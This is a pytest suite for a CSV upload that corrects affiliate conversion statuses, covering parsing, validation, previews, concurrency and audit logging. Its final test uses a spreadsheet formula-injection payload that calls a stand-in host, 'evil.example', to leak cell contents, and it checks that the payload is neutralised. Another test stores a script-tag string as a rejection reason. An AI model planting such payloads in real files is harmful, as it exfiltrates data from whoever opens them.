"""Corrections of conversion statuses by CSV, through the functions behind the staff page."""

import asyncio
import csv
import io
from collections.abc import Sequence
from contextlib import suppress
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from ipaddress import ip_address
from itertools import product
from typing import Any
from uuid import UUID, uuid4

import msgspec
import pytest

from core.timestamps import iso
from database.audit_context import Actor, acting_as
from ingest import corrections
from ingest.conversions import ingest_conversions
from ingest.correction_files import CorrectionsError, InvalidRow
from ingest.corrections import CorrectionsPreview, PreviewOutdatedError
from tests.support.app_calls import run_in_tenant
from tests.support.database import execute
from tests.support.sandbox import CSV, JSON, MAY, SINGULAR, Sandbox, conversion_callback, offer_record

ANNA = Actor("staff:anna@example.com", ip_address("192.0.2.7"))
STATUSES = ["Pending", "Success", "Rejected"]
HEADER = ("ConversionId", "Status", "RejectionReason")


def preview(sandbox: Sandbox, content: str | bytes) -> CorrectionsPreview:
    return run_in_tenant(
        sandbox.tenant.slug, lambda: corrections.preview_corrections(sandbox.tenant, as_bytes(content))
    )


def apply(
    sandbox: Sandbox, content: str | bytes, expected: str | None = None, *, now: datetime | None = None
) -> CorrectionsPreview:
    """Applies the file as the staff user Anna. Creates a preview first, unless a digest is given."""
    digest = expected or preview(sandbox, content).digest

    async def work() -> CorrectionsPreview:
        with acting_as(ANNA):
            return await corrections.apply_corrections(
                sandbox.tenant, as_bytes(content), digest, now or datetime.now(UTC)
            )

    return run_in_tenant(sandbox.tenant.slug, work)


def as_bytes(content: str | bytes) -> bytes:
    return content.encode() if isinstance(content, str) else content


def sheet(*rows: Sequence[Any], header: Sequence[str] = HEADER) -> str:
    text = io.StringIO()
    csv.writer(text).writerows([header, *rows])
    return text.getvalue()


def a_conversion(sandbox: Sandbox, **fields: Any) -> str:
    """Ingests a Success of revenue 60 on 19 May 2025, by default for a new offer. Returns its id."""
    if "offer" in fields:
        fields["offerAdvertiserId"] = None
    callback = conversion_callback(sandbox, fields.pop("offer", str(uuid4())), **fields)
    assert sandbox.send("conversions", [callback])["accepted"] == 1
    return str(callback["conversion"]["conversionId"])


def state(sandbox: Sandbox, conversion: str) -> tuple[str, str | None]:
    """(status, reason)"""
    (row,) = execute(
        "SELECT status, rejection_reason FROM {s}.conversion WHERE id = $1",
        UUID(conversion),
        schema=sandbox.tenant.schema,
    )
    return row["status"], row["rejection_reason"]


def revenue(sandbox: Sandbox) -> float:
    return float(sum(row["revenue"] for row in sandbox.report()))


def faults(bad: Sequence[InvalidRow]) -> list[tuple[int, str, str]]:
    return [(one.row, fault.column, fault.message) for one in bad for fault in one.errors]


# --- the file format ---


@pytest.mark.parametrize(
    "content",
    [
        "ConversionId,Status,RejectionReason\n{id},Rejected,fraud\n",
        "ConversionId;Status;RejectionReason\r\n{id};Rejected;fraud\r\n",
        "ConversionId,Status,RejectionReason\r{id},Rejected,fraud\r",
        "\ufeffConversionId;Status;RejectionReason\r\n{id};Rejected;fraud\r\n",
        '"ConversionId","Status","RejectionReason"\n"{id}","Rejected","fraud"',
        "conversion_id, status ,Rejection Reason\n {id} , REJECTED , fraud \n",
        "STATUS,REJECTIONREASON,CONVERSION ID\nrejected,fraud,{id}",
        "ClickId,ConversionId,Status,RejectionReason\n,{id},Rejected,fraud\n",
        "ConversionId,Status,RejectionReason,,\n{id},Rejected,fraud,,\n,,,,\n\n",
    ],
)
def test_a_file_as_saved_by_a_spreadsheet_is_parsed(module_sandbox: Sandbox, content: str) -> None:
    id_ = a_conversion(module_sandbox)
    done = apply(module_sandbox, content.replace("{id}", id_))
    assert (len(done.changes), len(done.unchanged), done.invalid) == (1, 0, [])
    assert state(module_sandbox, id_) == ("Rejected", "fraud")


def test_a_quoted_cell_may_contain_any_text(module_sandbox: Sandbox) -> None:
    id_ = a_conversion(module_sandbox)
    reason = 'a "chargeback", 60; then\r\nnothing <script>alert(1)</script> =1+1 ✓'
    apply(module_sandbox, sheet((id_, "Rejected", reason)))
    assert state(module_sandbox, id_) == ("Rejected", reason)


def test_a_row_may_omit_its_last_cells(module_sandbox: Sandbox) -> None:
    id_ = a_conversion(module_sandbox)
    apply(module_sandbox, f"ConversionId,Status,RejectionReason\n{id_},Rejected\n")
    assert state(module_sandbox, id_) == ("Rejected", None)


SOME = "7e0b0b1c-5c5c-4d6f-9d0a-0f6d5b1c2a11"
ROW = f"\n{SOME},Rejected"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"", "Row 1 must name the columns, .*: ClickId, ConversionId, Status, RejectionReason. It is empty"),
        (b"\n\n", "Row 1 .* It is empty"),
        (b"PK\x03\x04\xff\xfe", "not CSV in UTF-8: in a spreadsheet, save it as “CSV UTF-8”"),
        ("ConversionId,Status\nä,b".encode("utf-16"), "not CSV in UTF-8"),
        ("ConversionId,Status,Colour,A\x00<b>" + ROW, "Unknown: “Colour”, “A\ufffd<b>”"),
        ("ConversionId\tStatus" + ROW, "separated by commas or semicolons"),
        ("ConversionId,Conversion_ID,Status" + ROW, "Row 1 repeats a column: ConversionId"),
        ("ConversionId,RejectionReason" + ROW, "Row 1 lacks the column Status"),
        ("Status,RejectionReason" + ROW, "Row 1 lacks the column ClickId or ConversionId"),
        ("ConversionId,Status", "no rows below its header"),
        ("ConversionId,Status\n\n,,\n", "no rows below its header"),
        (f'ConversionId,Status{ROW}\n\n{SOME},Reje"cted\n"a"b,c', r"Row 5 is not valid CSV: .* double each \" in it"),
        (f'ConversionId,Status{ROW}\n"{SOME},Rejected\n', "Row 3 is not valid CSV: unexpected end of data"),
        (b"ConversionId,Status\n" + b"x" * 5 * 2**20, "larger than 5 MB"),
        ("ConversionId,Status" + ROW * 20_001, "more than 20,000 rows"),
    ],
)
def test_an_invalid_file_is_refused_with_the_reason(
    module_sandbox: Sandbox, content: str | bytes, expected: str
) -> None:
    with pytest.raises(CorrectionsError, match=expected) as caught:
        preview(module_sandbox, content)
    assert "\x00" not in str(caught.value)
    with pytest.raises(CorrectionsError, match=expected):
        apply(module_sandbox, content, "0" * 32)


@pytest.mark.parametrize(
    ("row", "column", "expected"),
    [
        (("", "", "Success", ""), "ClickId, ConversionId", "one of the two is required"),
        ((uuid4(), uuid4(), "Success", ""), "ClickId, ConversionId", "both are given: only one is allowed"),
        (("7", "", "Success", ""), "ClickId", "“7” must be an id such as 3fa85f64-5717-4562-b3fc-2c963f66afa6"),
        (("", "x" * 1_000, "Success", ""), "ConversionId", f"“{'x' * 60}…” must be an id"),
        (("", "\x00\u202e\n.", "Success", ""), "ConversionId", "“\ufffd\ufffd\ufffd.” must be an id"),
        (("", uuid4(), "Approved", ""), "Status", "“Approved” must be Pending, Success or Rejected"),
        (("", uuid4(), "", ""), "Status", "“” must be Pending, Success or Rejected"),
        (("", uuid4(), "Success", "fraud"), "RejectionReason", "must be empty for status Success"),
        (
            ("", uuid4(), "Rejected", "x" * 10_001),
            "RejectionReason",
            "has 10,001 characters; at most 10,000 are allowed",
        ),
        (("", uuid4(), "Rejected", "a\x00b"), "RejectionReason", "contains a NUL character"),
        (("", uuid4(), "Success", "", "more"), "", "the row has 5 cells, the header has 4"),
        ((uuid4(), "", "Success", ""), "ClickId", "no conversion has this click"),
        (("", uuid4(), "Success", ""), "ConversionId", "no conversion has this id"),
    ],
)
def test_an_invalid_row_names_the_column_and_the_error(
    module_sandbox: Sandbox, row: tuple[Any, ...], column: str, expected: str
) -> None:
    id_ = a_conversion(module_sandbox)
    content = sheet(("", id_, "Rejected", ""), row, header=("ClickId", *HEADER))
    shown = preview(module_sandbox, content)
    ((number, where, message),) = faults(shown.invalid)
    assert (number, where) == (3, column)
    assert message.startswith(expected)
    assert [one.row for one in shown.changes] == [2]


def test_all_errors_of_a_row_are_listed(module_sandbox: Sandbox) -> None:
    (bad,) = preview(module_sandbox, sheet(("7", "Done", "x\x00"))).invalid
    assert bad.problems == (
        "ConversionId: “7” must be an id such as 3fa85f64-5717-4562-b3fc-2c963f66afa6; "
        "Status: “Done” must be Pending, Success or Rejected; RejectionReason: contains a NUL character"
    )


def test_rows_are_numbered_as_in_a_spreadsheet(module_sandbox: Sandbox) -> None:
    id_ = a_conversion(module_sandbox)
    content = f'ConversionId,Status,RejectionReason\n\n{id_},Rejected,"two\nlines"\n,,\n7,Success,\n'
    shown = preview(module_sandbox, content)
    assert ([one.row for one in shown.changes], [one.row for one in shown.invalid]) == ([3], [5])


def test_a_file_with_the_most_rows_is_accepted(sandbox: Sandbox) -> None:
    content = sheet(*((uuid4(), "Success", "") for _ in range(20_000)))
    assert len(preview(sandbox, content).invalid) == 20_000


# --- finding the conversion ---


def test_a_conversion_is_found_by_its_click(module_sandbox: Sandbox) -> None:
    click = str(uuid4())
    id_ = a_conversion(module_sandbox, clickId=click)
    a_conversion(module_sandbox)
    (change,) = apply(module_sandbox, sheet((click, "Rejected"), header=("ClickId", "Status"))).changes
    assert (str(change.id), str(change.click)) == (id_, click)
    assert state(module_sandbox, id_) == ("Rejected", None)


def test_a_click_with_several_conversions_is_ambiguous(module_sandbox: Sandbox) -> None:
    click = str(uuid4())
    ids = sorted(a_conversion(module_sandbox, clickId=click) for _ in range(6))
    content = sheet((click, "", "Rejected"), ("", ids[5], "Rejected"), header=("ClickId", "ConversionId", "Status"))
    done = apply(module_sandbox, content)
    message = f"6 conversions have this click: give the ConversionId instead ({', '.join(ids[:5])}, …)"
    assert faults(done.invalid) == [(2, "ClickId", message)]
    assert [state(module_sandbox, id_)[0] for id_ in ids] == ["Success"] * 5 + ["Rejected"]


def test_another_tenants_conversion_is_not_found(sandbox: Sandbox, other_sandbox: Sandbox) -> None:
    click = str(uuid4())
    id_ = a_conversion(other_sandbox, clickId=click)
    content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
    assert len(apply(sandbox, content).invalid) == 2
    assert state(other_sandbox, id_) == ("Success", None)


def test_a_repeated_row_changes_a_conversion_once(module_sandbox: Sandbox) -> None:
    click = str(uuid4())
    id_ = a_conversion(module_sandbox, clickId=click)
    header = ("ClickId", "ConversionId", "Status", "RejectionReason")
    done = apply(module_sandbox, sheet(("", id_, "Rejected", "x"), (click, "", "rejected", "x"), header=header))
    assert [(one.row, one.repeats) for one in done.changes + done.unchanged] == [(2, None), (3, 2)]
    assert done.invalid == []


def test_rows_that_contradict_each_other_are_all_invalid(module_sandbox: Sandbox) -> None:
    click = str(uuid4())
    first, second = a_conversion(module_sandbox, clickId=click), a_conversion(module_sandbox)
    done = apply(
        module_sandbox,
        sheet(
            ("", first, "Rejected", ""),
            (click, "", "Pending", ""),
            ("", first, "Rejected", ""),
            ("", second, "Rejected", "fraud"),
            ("", second, "Rejected", "late"),
            header=("ClickId", *HEADER),
        ),
    )
    assert faults(done.invalid) == [
        (2, "Status", "row 3 gives the same conversion the status Pending"),
        (3, "Status", "row 2 gives the same conversion the status Rejected"),
        (4, "Status", "row 3 gives the same conversion the status Pending"),
        (5, "RejectionReason", "row 6 gives the same conversion a different reason"),
        (6, "RejectionReason", "row 5 gives the same conversion a different reason"),
    ]
    assert state(module_sandbox, first)[0] == state(module_sandbox, second)[0] == "Success"


# --- the preview ---


def test_a_preview_shows_the_changes_and_applies_none(sandbox: Sandbox) -> None:
    offer, theirs, partner = offer_record(sandbox, name="Boots"), offer_record(sandbox, sandbox.rival), str(uuid4())
    sandbox.send("offers", [offer, theirs])
    sandbox.send("partners", [{"id": partner, "name": "Limestone"}])
    lost = a_conversion(sandbox, offer=offer["id"], partnerId=partner, revenue="0.000001")
    lost_too = a_conversion(sandbox, offer=offer["id"], revenue="999999999.999999")
    won = a_conversion(sandbox, offer=offer["id"], revenue="0.1", status="Rejected", rejectionReason="late")
    gained = a_conversion(sandbox, offer=theirs["id"], revenue="12.50", status="Pending")
    kept = a_conversion(sandbox, offer=theirs["id"], revenue="7")
    content = sheet(
        (lost, "Rejected", "fraud"),
        (lost_too, "Pending", ""),
        (won, "Success", ""),
        (gained, "Success", ""),
        (kept, "Success", ""),
    )
    etag = sandbox.get(JSON, **MAY).headers["etag"]
    shown = preview(sandbox, content)
    first = shown.changes[0]
    assert (first.row, str(first.id), first.offer, first.partner) == (2, lost, "Boots", "Limestone")
    assert (first.advertiser, first.occurred_at.isoformat()) == ("Owner", "2025-05-19T15:36:19.756249+00:00")
    assert (first.old_status, first.new_status, first.old_reason, first.new_reason) == (
        *("Success", "Rejected"),
        *(None, "fraud"),
    )
    assert [str(one.cost) for one in shown.changes] == ["0.000001", "999999999.999999", "0.100000", "12.500000"]
    assert [one.row for one in shown.unchanged] == [6]
    assert shown.moves == {
        ("Success", "Rejected"): 1,
        ("Success", "Pending"): 1,
        ("Rejected", "Success"): 1,
        ("Pending", "Success"): 1,
    }
    assert [(one.name, one.currency, one.conversions, one.cost) for one in shown.effects] == [
        ("Owner", "USD", -1, Decimal("-999999999.900000")),
        ("Rival", "USD", 1, Decimal("12.5")),
    ]
    assert [one.advertiser for one in shown.effects] == [sandbox.owner, sandbox.rival]
    assert preview(sandbox, content) == shown
    assert sandbox.get(JSON, **MAY).headers["etag"] == etag


# --- applying ---


def test_a_status_can_change_to_any_other(sandbox: Sandbox) -> None:
    ids = {(old, new): a_conversion(sandbox, status=old, revenue=1) for old, new in product(STATUSES, STATUSES)}
    done = apply(sandbox, sheet(*((id_, new, "") for (_, new), id_ in ids.items())))
    assert (len(done.changes), len(done.unchanged)) == (6, 3)
    assert {pair: state(sandbox, id_)[0] for pair, id_ in ids.items()} == {(old, new): new for old, new in ids}
    assert revenue(sandbox) == 3


@pytest.mark.parametrize(
    ("old", "row", "new"),
    [
        (("Success", None), ("Rejected", "fraud"), ("Rejected", "fraud")),
        (("Rejected", "late"), ("Rejected", "fraud"), ("Rejected", "fraud")),
        (("Rejected", "late"), ("Rejected", ""), ("Rejected", "late")),
        (("Rejected", "late"), ("Success", ""), ("Success", None)),
        (("Rejected", "late"), ("Pending", ""), ("Pending", None)),
    ],
)
def test_only_a_rejected_conversion_keeps_a_reason(
    module_sandbox: Sandbox, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
) -> None:
    id_ = a_conversion(module_sandbox, status=old[0], rejectionReason=old[1])
    done = apply(module_sandbox, sheet((id_, *row)))
    assert state(module_sandbox, id_) == new
    assert len(done.changes) == (old != new)
    assert [(one.new_status, one.new_reason) for one in done.changes + done.unchanged] == [new]


def test_every_report_shows_a_correction(sandbox: Sandbox) -> None:
    offer = offer_record(sandbox, name="Boots")
    sandbox.send("offers", [offer])
    ids = [a_conversion(sandbox, offer=offer["id"], revenue=f"0.{n}") for n in range(1, 6)]
    before = sandbox.get(JSON, **MAY)
    apply(sandbox, sheet((ids[0], "Rejected", "fraud"), (ids[1], "Pending", "")))
    after = sandbox.request(
        "GET", JSON, token=sandbox.owner_key, params=MAY, headers={"If-None-Match": before.headers["etag"]}
    )
    assert after.status_code == 200
    assert after.headers["gokart-data-through"] >= before.headers["gokart-data-through"]
    (row,) = after.json()["data"]
    assert (row["totalConversions"], row["revenue"]) == (3, 1.2)
    assert sandbox.get(CSV, **MAY).text.count(",1.2,") == 1
    items = msgspec.json.decode(sandbox.get(SINGULAR, **MAY).content)["data"]["items"]
    assert [(item["date"], item["cost"]) for item in items] == [("2025-05-19", 1.2)]
    part = sandbox.report(date_from="2025-05-19T15:30:00Z", date_to="2025-05-19T15:36:00Z")
    assert [row["revenue"] for row in part] == [1.2]


def test_a_correction_counts_as_intake(sandbox: Sandbox) -> None:
    id_, other = a_conversion(sandbox), a_conversion(sandbox, status="Pending")
    content = sheet((id_, "Rejected", ""), (other, "Pending", ""), ("7", "Done", ""))
    apply(sandbox, content)
    (call,) = execute("SELECT * FROM {s}.intake WHERE kind = 'corrections'", schema=sandbox.tenant.schema)
    assert (call["accepted"], call["duplicates"], call["token"]) == (1, 1, None)
    assert sandbox.get(JSON, **MAY).headers["gokart-data-through"] == iso(call["received_at"])


def test_a_typing_error_of_staff_is_not_a_rejected_record(sandbox: Sandbox) -> None:
    done = apply(sandbox, sheet((a_conversion(sandbox), "Rejected", ""), ("7", "Done", "")))
    assert len(done.invalid) == 1
    (call,) = execute("SELECT rejected FROM {s}.intake WHERE kind = 'corrections'", schema=sandbox.tenant.schema)
    assert call["rejected"] == 0
    assert execute("SELECT * FROM {s}.intake_reject", schema=sandbox.tenant.schema) == []


PICCOLO = "id,occurred_at,status,cost,offer,advertiser,partner,click,rejection_reason,received_at"
API = (
    "id,status,cost,occurredAt,receivedAt,changedAt,cause,offerId,offerName,partnerId,partnerName,clickId,"
    "rejectionReason,details,history"
)


@pytest.mark.parametrize(
    ("header", "row"),
    [
        (PICCOLO, '"{id}","2025-05-19T15:36:26Z","Rejected","60","Chess","Owner","P","{click}","fraud","2025-05-19"'),
        (PICCOLO.replace(",", ";"), '"{id}";"";"Rejected";"60";"Chess";"Owner";"P";"null";"fraud";""'),
        ("id,status,rejection_reason", '"{id}","Rejected","fraud"'),
        (API, "{id},Rejected,60,2025-05-19,2025-05-19,2025-05-19,callback,x,Chess,y,P,{click},fraud,,[]"),
    ],
)
def test_an_export_of_conversions_is_accepted(module_sandbox: Sandbox, header: str, row: str) -> None:
    id_ = a_conversion(module_sandbox)
    content = f"{header}\n{row}\n".replace("{id}", id_).replace("{click}", SOME)
    shown = preview(module_sandbox, content)
    assert shown.invalid == []
    assert ("cost" in shown.ignored) is ("cost" in header)
    apply(module_sandbox, content)
    assert state(module_sandbox, id_) == ("Rejected", "fraud")


def test_an_empty_cell_of_an_export_is_empty(module_sandbox: Sandbox) -> None:
    id_ = a_conversion(module_sandbox)
    content = f'id,status,click,rejection_reason\n"{id_}","Success","null","null"\n'
    shown = preview(module_sandbox, content)
    assert (shown.invalid, shown.changes, len(shown.unchanged), shown.ignored) == ([], [], 1, ["click"])


def test_a_column_of_an_export_is_unknown_in_other_files(module_sandbox: Sandbox) -> None:
    with pytest.raises(CorrectionsError, match="Unknown: “cost”"):
        preview(module_sandbox, f"ConversionId,Status,cost\n{SOME},Rejected,1\n")


def test_invalid_rows_do_not_block_the_others(sandbox: Sandbox) -> None:
    first, last = a_conversion(sandbox), a_conversion(sandbox)
    done = apply(sandbox, sheet((first, "Rejected", ""), (uuid4(), "Rejected", ""), (last, "Rejected", "")))
    assert ([one.row for one in done.changes], [one.row for one in done.invalid]) == ([2, 4], [3])
    assert revenue(sandbox) == 0


def test_applying_the_same_file_again_changes_nothing(sandbox: Sandbox) -> None:
    content = sheet((a_conversion(sandbox), "Rejected", "fraud"), (a_conversion(sandbox), "Pending", ""))
    apply(sandbox, content)
    etag = sandbox.get(JSON, **MAY).headers["etag"]
    again = apply(sandbox, content)
    assert (again.changes, len(again.unchanged), again.effects) == ([], 2, [])
    assert sandbox.get(JSON, **MAY).headers["etag"] == etag


def test_the_audit_log_has_each_correction_with_its_actor(sandbox: Sandbox) -> None:
    id_ = a_conversion(sandbox)
    apply(sandbox, sheet((id_, "Rejected", "fraud"), (a_conversion(sandbox, status="Pending"), "Pending", "")))
    (entry,) = execute("SELECT * FROM {s}.audit_log WHERE subject = 'conversion'", schema=sandbox.tenant.schema)
    assert (entry["actor"], str(entry["address"]), entry["action"]) == (ANNA.name, "192.0.2.7", "changed")
    before, after = (msgspec.json.decode(entry[side]) for side in ("before", "after"))
    assert entry["key"] == id_
    assert (before["status"], before["rejection_reason"]) == ("Success", None)
    assert (after["status"], after["rejection_reason"]) == ("Rejected", "fraud")
    assert "cost" not in after


# --- corrections and callbacks ---


def later(callback: dict[str, Any], sent_at: datetime, status: str) -> dict[str, Any]:
    return callback | {
        "id": str(uuid4()),
        "sentAt": sent_at.isoformat(),
        "conversion": callback["conversion"] | {"status": status},
    }


def test_a_callback_sent_before_a_correction_does_not_undo_it(sandbox: Sandbox) -> None:
    callback = conversion_callback(sandbox, str(uuid4()), status="Pending")
    sandbox.send("conversions", [callback])
    now = datetime.now(UTC)
    apply(sandbox, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
    late = later(callback, now - timedelta(microseconds=1), "Success")
    assert sandbox.send("conversions", [callback, late])["duplicates"] == 2
    assert revenue(sandbox) == 0


def test_a_callback_sent_after_a_correction_wins(sandbox: Sandbox) -> None:
    callback = conversion_callback(sandbox, str(uuid4()))
    sandbox.send("conversions", [callback])
    now = datetime.now(UTC)
    apply(sandbox, sheet((callback["conversion"]["conversionId"], "Rejected", "fraud")), now=now)
    assert sandbox.send("conversions", [later(callback, now + timedelta(microseconds=1), "Success")])["accepted"] == 1
    assert revenue(sandbox) == 60
    assert state(sandbox, callback["conversion"]["conversionId"]) == ("Success", None)


def test_a_correction_wins_over_an_existing_callback_from_the_future(sandbox: Sandbox) -> None:
    now = datetime.now(UTC)
    ahead = later(conversion_callback(sandbox, str(uuid4())), now + timedelta(hours=1), "Success")
    sandbox.send("conversions", [ahead])
    content = sheet((ahead["conversion"]["conversionId"], "Rejected", ""))
    apply(sandbox, content, now=now)
    assert sandbox.send("conversions", [ahead])["duplicates"] == 1
    assert revenue(sandbox) == 0
    apply(sandbox, content.replace("Rejected", "Success"), now=now)
    assert revenue(sandbox) == 60


# --- changes since the preview ---


def test_nothing_is_applied_if_a_conversion_changed_since_the_preview(sandbox: Sandbox) -> None:
    changed, other = conversion_callback(sandbox, str(uuid4())), a_conversion(sandbox)
    sandbox.send("conversions", [changed])
    content = sheet((changed["conversion"]["conversionId"], "Success", ""), (other, "Rejected", ""))
    digest = preview(sandbox, content).digest
    sandbox.send("conversions", [later(changed, datetime.now(UTC), "Pending")])
    refused(sandbox, content, digest)
    assert state(sandbox, other) == ("Success", None)
    assert apply(sandbox, content).moves == {("Pending", "Success"): 1, ("Success", "Rejected"): 1}


def test_nothing_is_applied_if_a_conversion_arrived_since_the_preview(sandbox: Sandbox) -> None:
    click, id_ = str(uuid4()), str(uuid4())
    content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
    digest = preview(sandbox, content).digest
    a_conversion(sandbox, clickId=click)
    refused(sandbox, content, digest)
    digest = preview(sandbox, content).digest
    a_conversion(sandbox, conversionId=id_)
    refused(sandbox, content, digest)
    digest = preview(sandbox, content).digest
    a_conversion(sandbox, clickId=click)  # the row is now ambiguous
    refused(sandbox, content, digest)


def test_a_file_other_than_the_previewed_one_is_refused(sandbox: Sandbox) -> None:
    id_ = a_conversion(sandbox)
    digest = preview(sandbox, sheet((id_, "Rejected", "fraud"))).digest
    refused(sandbox, sheet((id_, "Rejected", "late")), digest)
    refused(sandbox, sheet((id_, "Rejected", "fraud")), "")


def test_nothing_is_applied_if_an_offer_moved_since_the_preview(sandbox: Sandbox) -> None:
    offer = offer_record(sandbox)
    sandbox.send("offers", [offer])
    content = sheet((a_conversion(sandbox, offer=offer["id"]), "Rejected", ""))
    digest = preview(sandbox, content).digest
    sandbox.move_offer(offer["id"], sandbox.rival)
    refused(sandbox, content, digest)
    sandbox.move_offer(offer["id"], sandbox.owner)
    sandbox.send("offers", [offer | {"name": "Renamed"}])
    assert apply(sandbox, content, digest).effects[0].advertiser == sandbox.owner


def refused(sandbox: Sandbox, content: str, digest: str) -> None:
    etag = sandbox.get(JSON, **MAY).headers["etag"]
    with pytest.raises(PreviewOutdatedError, match="changed since the preview"):
        apply(sandbox, content, digest or "0")
    assert sandbox.get(JSON, **MAY).headers["etag"] == etag
    for table in "intake WHERE kind = 'corrections'", "audit_log WHERE subject = 'conversion'":
        assert execute(f"SELECT * FROM {{s}}.{table}", schema=sandbox.tenant.schema) == []


# --- concurrent intake ---


def test_simultaneous_corrections_and_callbacks_count_once(sandbox: Sandbox) -> None:
    offer = offer_record(sandbox)["id"]
    callbacks = [conversion_callback(sandbox, offer, revenue=n, clickId=str(uuid4())) for n in range(1, 61)]
    sandbox.send("conversions", callbacks)
    now = datetime.now(UTC)
    by_id = sheet(*((c["conversion"]["conversionId"], STATUSES[n % 3], "") for n, c in enumerate(callbacks)))
    clicks = [(c["conversion"]["clickId"], STATUSES[n % 2]) for n, c in enumerate(reversed(callbacks))]
    by_click = sheet(*clicks, header=("ClickId", "Status"))

    async def correct(content: str) -> None:
        done = 0
        while done < 5:
            seen = await corrections.preview_corrections(sandbox.tenant, content.encode())
            with suppress(PreviewOutdatedError):
                await corrections.apply_corrections(sandbox.tenant, content.encode(), seen.digest, datetime.now(UTC))
                done += 1

    async def send(step: int) -> None:
        for n in range(10):
            sent = [later(c, now + timedelta(seconds=n), STATUSES[(n + step) % 3]) for c in callbacks[::step]]
            await ingest_conversions(
                sandbox.tenant, [msgspec.json.encode(one) for one in sent], datetime.now(UTC), None
            )

    async def all_at_once() -> None:
        await asyncio.gather(correct(by_id), correct(by_click), send(1), send(-1), send(2))

    run_in_tenant(sandbox.tenant.slug, all_at_once)
    (ledger,) = execute(
        "SELECT count(*), sum(cost) / 1000000 AS cost FROM {s}.conversion WHERE status = 'Success'",
        schema=sandbox.tenant.schema,
    )
    assert sum(row["totalConversions"] for row in sandbox.report()) == ledger["count"]
    assert revenue(sandbox) == (ledger["cost"] or 0)


def test_only_one_of_two_simultaneous_applications_succeeds(sandbox: Sandbox) -> None:
    content = sheet(*((a_conversion(sandbox), "Rejected", "") for _ in range(5)))
    digest = preview(sandbox, content).digest

    async def both() -> list[CorrectionsPreview | BaseException]:
        now = datetime.now(UTC)
        return await asyncio.gather(
            *(corrections.apply_corrections(sandbox.tenant, content.encode(), digest, now) for _ in range(2)),
            return_exceptions=True,
        )

    outcomes = run_in_tenant(sandbox.tenant.slug, both)
    assert sorted(type(one).__name__ for one in outcomes) == ["CorrectionsPreview", "PreviewOutdatedError"]
    assert revenue(sandbox) == 0


# --- rejected rows ---


def test_invalid_rows_can_be_downloaded_fixed_and_uploaded(sandbox: Sandbox) -> None:
    first, second = a_conversion(sandbox), a_conversion(sandbox)
    content = (
        f"\ufeffStatus;ConversionId;Rejection Reason\r\nRejekted;{first};-1; \r\n"
        f'Done;{second};"two ""lines"";\r\nof it"\r\nSuccess;7;\r\n'
    )
    rejects = preview(sandbox, content).rejects_csv()
    assert rejects.startswith(b"\xef\xbb\xbfRow;Status;ConversionId;RejectionReason;Problem\r\n2;Rejekted;")
    table = list(csv.reader(io.StringIO(rejects.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert [row[0] for row in table] == ["Row", "2", "3", "4"]
    assert table[1][3:] == ["'-1", "Status: “Rejekted” must be Pending, Success or Rejected"]
    mended = rejects.replace(b"Rejekted", b"Rejected").replace(b"Done", b"Rejected")
    done = apply(sandbox, mended)
    assert len(done.invalid) == 1
    assert state(sandbox, first) == ("Rejected", "-1")
    assert state(sandbox, second) == ("Rejected", 'two "lines";\r\nof it')


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
def test_no_downloaded_cell_is_a_formula(module_sandbox: Sandbox, start: str) -> None:
    bomb = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
    content = sheet((bomb, bomb, bomb), (uuid4(), "Rejected", bomb))
    rejects = preview(module_sandbox, content).rejects_csv().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(rejects, newline="")))
    assert [row[1:4].count(f"'{bomb}") for row in table] == [0, 3, 1]
    assert not [cell for row in table for cell in row if cell.startswith(tuple("=+-@\t\r\n"))]
